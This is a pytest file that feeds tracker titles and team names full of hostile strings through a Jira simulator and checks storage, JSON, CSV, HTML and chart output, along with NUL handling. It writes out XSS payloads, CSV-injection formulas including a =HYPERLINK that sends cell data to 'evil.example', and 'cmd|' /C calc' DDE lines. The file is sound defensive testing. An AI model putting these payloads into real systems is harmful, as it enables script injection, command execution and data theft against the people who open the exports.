"""Hostile strings in tracker data, pulled through the Jira simulator, stored and served.

Every work item's title carries something an attacker with write access to the tracker could
type: HTML and script, a 100,000-character field, right-to-left text and emoji, control
characters (NUL excepted: neither JSON from a tracker nor PostgreSQL text carries it), and
spreadsheet formulas (OWASP CSV injection). Team names, from the configuration, are hostile
too. The store keeps the titles byte for byte, JSON gives them back exactly, CSV parses back
with formula cells neutralised by a leading quote, the digest's HTML escapes them, and every
chart renders.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Any

import pytest
from fastapi.testclient import TestClient
from markupsafe import escape
from sqlalchemy import select

from app.demo import ENV, jira_source
from app.main import create_app
from app.query_guard import NUL_MESSAGE
from app.settings import Settings
from app.tokens import create_token
from art.config import TrainyardConfig
from art.db import upgrade
from art.models import WorkItem
from simulators.generator import generate_art
from simulators.jira import create_jira_simulator
from simulators.scenario import Scenario
from simulators.server import serve
from sync.runner import PullRunner
from tests.app.app_routes import OPERATIONS, Operation
from tests.conftest import BACKENDS, PG_URL, bearer, drop_pg_database, pg_database
from tests.reliability.support import JIRA_USERS

FORMULA = ("=", "+", "-", "@", "\t", "\r")  # OWASP: cells a spreadsheet may run as formulas


def _script(key: str) -> str:
    return f"<script>alert('{key}')</script><img src=x onerror=alert(1)>"


VARIANTS = [
    lambda k: f"{_script(k)} plain & <b>bold</b> \"quoted\", 'single'",
    lambda k: "A" * 50_000 + _script(k) + "Z" * (50_000 - len(_script(k))),  # 100,000 chars
    lambda k: (
        f"\u202eRTL override \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 "
        f"\U0001f682\U0001f525\U0001f469\u200d\U0001f469\u200d\U0001f467 e\u0301 {_script(k)}"
    ),
    lambda k: (
        f"bell\x07 esc\x1b[31m del\x7f tab\t nl\n cr\r vt\x0b ff\x0c \u2028\u2029 {_script(k)}"
    ),
    lambda k: f'=HYPERLINK("http://evil.example/?"&A1,"{k}") {_script(k)}',
    lambda k: f"+1+cmd|' /C calc'!A0 {_script(k)}",
    lambda k: f"-2+3 {_script(k)}",
    lambda k: f"@SUM(1+1)*cmd|' /C calc'!A0 {_script(k)}",
    lambda k: f"\t=1+1 {_script(k)}",
    lambda k: f"\r=1+1 {_script(k)}",
]
TEAM_NAMES = {  # project key -> the team's name in the configuration
    "ATLAS": "<script>alert('team')</script> & Co",
    "BOREALIS": '=HYPERLINK("http://evil.example") $\\frac$ 50% _x^2_',
    "COMET": "\u0641\u0631\u064a\u0642 \u202e\U0001f682 \u05e9\u05dc\u05d5\u05dd \x07\x1b[0m",
}


def hostile_scenario() -> Scenario:
    base = generate_art(seed=9, items=60, teams=3)
    items = [
        replace(item, title=VARIANTS[n % len(VARIANTS)](item.key))
        for n, item in enumerate(base.items)
    ]
    return replace(base, items=items)


SCENARIO = hostile_scenario()
TITLES = {i.key: i.title for i in SCENARIO.items if not i.deleted}
TEAMS = {t: TEAM_NAMES[t.upper()] for t in SCENARIO.teams}


@dataclass
class Served:
    client: TestClient
    read: dict[str, str]
    admin: dict[str, str]

    def get(self, path: str, **params: Any) -> Any:
        return self.client.get(path, params=params, headers=self.read)


@pytest.fixture(scope="module", params=BACKENDS)
def served(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Served]:
    """SCENARIO pulled from the Jira simulator into a store behind the app, per backend."""
    tmp = tmp_path_factory.mktemp("hostile")
    pg_name = None
    if request.param == "sqlite":
        store_url = f"sqlite:///{tmp / 'store.db'}"
        upgrade(store_url)
    elif PG_URL is None:
        pytest.skip("TRAINYARD_TEST_POSTGRES_URL is not set")
    else:
        store_url, pg_name = pg_database()
    with (
        pytest.MonkeyPatch.context() as mp,
        serve(create_jira_simulator(SCENARIO, users=JIRA_USERS)) as url,
    ):
        for name, value in ENV.items():
            mp.setenv(name, value)
        config = TrainyardConfig.model_validate(
            {
                "arts": [
                    {
                        "name": SCENARIO.art,
                        "timezone": SCENARIO.timezone,
                        "teams": [{"name": n} for n in TEAMS.values()],
                        "pis": [
                            {"name": p.name, "start": p.start, "end": p.end} for p in SCENARIO.pis
                        ],
                    }
                ],
                "sources": [
                    jira_source(
                        "jira",
                        url,
                        SCENARIO,
                        list(SCENARIO.teams),
                        team_rule={"by": "project", "names": dict(TEAM_NAMES)},
                        statuses=dict(SCENARIO.statuses),
                    )
                ],
            }
        )
        settings = Settings(database_url=store_url, scheduler=False, data_dir=tmp / "data")
        with TestClient(create_app(settings, config, with_worker=False)) as client:
            state = client.app.state.trainyard  # type: ignore[attr-defined]
            result = PullRunner(state.sessions, config, config.source("jira")).run()
            assert (result.status, result.item_errors) == ("succeeded", [])
            with state.sessions() as s, s.begin():
                read = create_token(s, "hostile-read", ["read"])
                admin = create_token(s, "hostile-admin", ["admin"])
            yield Served(client, bearer(read), bearer(admin))
    if pg_name is not None:
        drop_pg_database(pg_name)


def test_the_scenario_is_hostile_enough() -> None:
    assert max(len(t) for t in TITLES.values()) == 100_000
    assert {t[0] for t in TITLES.values()} >= set(FORMULA)
    assert all("<script>" in t for t in TITLES.values())


def test_titles_are_stored_byte_for_byte(served: Served) -> None:
    state = served.client.app.state.trainyard  # type: ignore[attr-defined]
    with state.sessions() as s:
        rows = s.execute(select(WorkItem.key, WorkItem.title).where(WorkItem.key.in_(list(TITLES))))
        stored = {key: title for key, title in rows}
    assert stored == TITLES


def _items(served: Served, **params: Any) -> Any:
    resp = served.get("/api/v1/items", art=SCENARIO.art, limit=1000, **params)
    assert resp.status_code == 200
    return resp


def test_json_gives_the_titles_and_team_names_back_exactly(served: Served) -> None:
    resp = _items(served)
    assert resp.headers["content-type"] == "application/json"
    data = resp.json()["data"]
    assert {r["key"]: r["title"] for r in data if r["key"] in TITLES} == TITLES
    teams = {i.key: TEAMS[i.team] for i in SCENARIO.items if not i.deleted}
    assert {r["key"]: r["team"] for r in data if r["key"] in TITLES} == teams


def _neutral(value: str) -> str:
    return "'" + value if value.startswith(FORMULA) else value


def test_csv_parses_back_and_formula_cells_are_neutralised(served: Served) -> None:
    resp = _items(served, format="csv")
    assert resp.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert all(len(row) == len(header) for row in body)
    by_key = {row[header.index("key")]: row for row in body}
    assert {k: by_key[k][header.index("title")] for k in TITLES} == {
        k: _neutral(t) for k, t in TITLES.items()
    }
    teams = {i.key: _neutral(TEAMS[i.team]) for i in SCENARIO.items if not i.deleted}
    assert {k: by_key[k][header.index("team")] for k in TITLES} == teams
    # nothing a spreadsheet would run, in any text cell of the export
    assert not [c for row in body for c in row if c.startswith(FORMULA)]


def test_report_csv_neutralises_formula_titles_and_teams(served: Served) -> None:
    pi = SCENARIO.pis[-2].name  # the current PI
    resp = served.get(f"/api/v1/arts/{SCENARIO.art}/pis/{pi}/dependencies", format="csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert body  # the generated ART has dependencies in every PI
    titles = [i for i, name in enumerate(header) if name.endswith((".title", ".team"))]
    assert titles
    cells = [row[i] for row in body for i in titles]
    assert not [c for c in cells if c.startswith(FORMULA)]
    originals = set(TITLES.values()) | set(TEAMS.values())
    odd = [c for c in cells if c and c not in originals and c[1:] not in originals]
    assert odd == []


def test_the_digest_html_escapes_titles_and_team_names(served: Served) -> None:
    created = served.client.post(
        "/api/v1/digests",
        json={
            "name": "<b>Weekly</b> <script>alert('name')</script>",
            "art": SCENARIO.art,
            "cron": "0 8 * * MON",
            "recipients": ["rte@example.com"],
        },
        headers=served.admin,
    )
    assert created.status_code == 201
    html = served.client.get(
        f"/api/v1/digests/{created.json()['id']}/preview", headers=served.admin
    ).text
    lowered = html.lower()
    assert "<script" not in lowered and "<img src=x" not in lowered and "<b>" not in lowered
    assert str(escape(TEAM_NAMES["ATLAS"])) in html  # the team table names it, escaped
    shown = [k for k in TITLES if str(escape(_script(k))) in html]
    assert shown  # dependency providers with their (escaped) titles
    assert str(escape("<b>Weekly</b> <script>alert('name')</script>")) in html


CHARTS = {  # chart -> whether it takes ?team=
    "cfd": True,
    "throughput": True,
    "cycle-time": True,
    "aging": True,
    "burnup": True,
    "predictability": False,
}


@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")  # emoji, control characters
@pytest.mark.parametrize("chart", list(CHARTS))
def test_every_chart_renders_with_hostile_team_names(served: Served, chart: str) -> None:
    teams: list[str | None] = [None, *TEAMS.values()] if CHARTS[chart] else [None]
    for team in teams:
        params = {} if team is None else {"team": team}
        svg = served.get(f"/api/v1/arts/{SCENARIO.art}/charts/{chart}.svg", **params)
        assert (svg.status_code, svg.headers["content-type"]) == (200, "image/svg+xml"), team
        root = ET.fromstring(svg.content)  # well-formed XML: the names are escaped
        assert root.tag == "{http://www.w3.org/2000/svg}svg"
        assert b"<script" not in svg.content
    params = {"team": TEAM_NAMES["BOREALIS"]} if CHARTS[chart] else {}
    png = served.get(f"/api/v1/arts/{SCENARIO.art}/charts/{chart}.png", **params)
    assert png.status_code == 200 and png.content.startswith(b"\x89PNG\r\n\x1a\n")


# Issue 12 item 12: a NUL character in a name gave a 500 on PostgreSQL (its text cannot hold
# one) in every endpoint that looks an ART, PI, team or source up by name, and in JSON bodies.
NAMED = ("art", "pi", "team", "source", "key")  # parameters the store is searched by
WITH_NUL = "PI\x0026.1"
CURRENT_PI = SCENARIO.pis[-2].name
NUL_CASES = [
    (op, where, name)
    for op in OPERATIONS
    for where, names in (("path", op.path_params), ("query", op.query))
    for name in names
    if name in NAMED
]


@pytest.fixture(scope="module")
def every_scope(served: Served) -> dict[str, str]:
    state = served.client.app.state.trainyard  # type: ignore[attr-defined]
    with state.sessions() as s, s.begin():
        return bearer(create_token(s, "hostile-every", ["read", "write", "admin"]))


def test_the_routes_were_enumerated() -> None:
    """A guard against the enumeration silently finding nothing: the read endpoints that
    take an ART, PI, team or source by name (32 today), and the ones the issue names."""
    covered = {(str(op), name) for op, _, name in NUL_CASES}
    assert len({op for op, _ in covered if op.startswith("GET ")}) >= 32
    assert {
        ("GET /api/v1/arts/{art}/pis/{pi}/dependencies", "team"),
        ("GET /api/v1/items", "key"),
        ("GET /api/v1/sync-runs", "source"),
        ("GET /api/v1/arts/{art}/charts/burnup.{fmt}", "pi"),
        ("POST /hooks/jira/{source}", "source"),
    } <= covered


@pytest.mark.parametrize(
    ("op", "where", "name"), NUL_CASES, ids=[f"{op} {w}:{n}" for op, w, n in NUL_CASES]
)
def test_a_nul_in_a_name_is_a_422_naming_the_parameter(
    served: Served, every_scope: dict[str, str], op: Operation, where: str, name: str
) -> None:
    values = {"art": SCENARIO.art, "pi": CURRENT_PI}
    if where == "path":
        url, query = op.url({**values, name: WITH_NUL}), None
    else:
        url, query = op.url(values), {name: WITH_NUL}
    body = {} if op.body is not None else None
    resp = served.client.request(op.method, url, params=query, json=body, headers=every_scope)
    assert resp.status_code == 422, resp.text
    assert resp.headers["content-type"] == "application/problem+json"
    assert resp.json()["errors"] == [{"parameter": name, "in": where, "message": NUL_MESSAGE}]


def _string_fields(schema: dict[str, Any]) -> Iterator[tuple[str, bool]]:
    """The body's free-text fields (not enums): (name, whether it is a list of strings)."""
    for name, prop in schema["properties"].items():
        for option in prop.get("anyOf", [prop]):
            listed = option.get("type") == "array"
            element = option.get("items", {}) if listed else option
            if element.get("type") == "string" and "enum" not in element:
                yield name, listed


BODIES: dict[str, dict[str, Any]] = {  # a valid body for each operation that takes one
    "POST /api/v1/arts/{art}/pis/{pi}/objectives": {
        "team": TEAM_NAMES["ATLAS"],
        "text": "Ship SSO",
        "planned_bv": 5,
        "items": ["ATLAS-1"],
    },
    "PATCH /api/v1/arts/{art}/pis/{pi}/objectives/{objective_id}": {"text": "Ship SSO"},
    "POST /api/v1/arts/{art}/pis/{pi}/risks": {"text": "Vendor late", "owner": "Ann"},
    "PATCH /api/v1/arts/{art}/pis/{pi}/risks/{risk_id}": {"text": "Vendor late"},
    "POST /api/v1/subscriptions": {
        "url": "https://hooks.example.com/t",
        "events": ["*"],
        "description": "BI refresh",
    },
    "PATCH /api/v1/subscriptions/{sub_id}": {"description": "BI refresh"},
    "POST /api/v1/digests": {
        "name": "Weekly",
        "art": SCENARIO.art,
        "cron": "0 8 * * MON",
        "recipients": ["rte@example.com"],
    },
    "PATCH /api/v1/digests/{digest_id}": {"name": "Weekly"},
    "POST /api/v1/tokens": {"name": "powerbi", "scopes": ["read"]},
}
BODY_CASES = [
    (op, field, is_list)
    for op in OPERATIONS
    if op.body is not None
    for field, is_list in _string_fields(op.body)
]


def test_every_operation_with_a_body_has_one_here() -> None:
    assert {str(op) for op in OPERATIONS if op.body is not None} == set(BODIES)
    fields = {(str(op), field) for op, field, _ in BODY_CASES}
    assert ("POST /api/v1/arts/{art}/pis/{pi}/objectives", "text") in fields
    assert ("POST /api/v1/subscriptions", "description") in fields


@pytest.mark.parametrize(
    ("op", "field", "is_list"), BODY_CASES, ids=[f"{op} {f}" for op, f, _ in BODY_CASES]
)
def test_a_nul_in_a_body_field_is_a_422_naming_it_and_nothing_is_stored(
    served: Served, every_scope: dict[str, str], op: Operation, field: str, is_list: bool
) -> None:
    url = op.url({"art": SCENARIO.art, "pi": CURRENT_PI})
    body = {**BODIES[str(op)], field: ["fine", "with\x00nul"] if is_list else "with\x00nul"}
    before = served.client.get(url, headers=every_scope)
    resp = served.client.request(op.method, url, json=body, headers=every_scope)
    assert resp.status_code == 422, resp.text
    assert resp.json()["errors"] == [
        {"parameter": f"{field}.1" if is_list else field, "in": "body", "message": NUL_MESSAGE}
    ]
    after = served.client.get(url, headers=every_scope)
    assert (after.status_code, after.content) == (before.status_code, before.content)
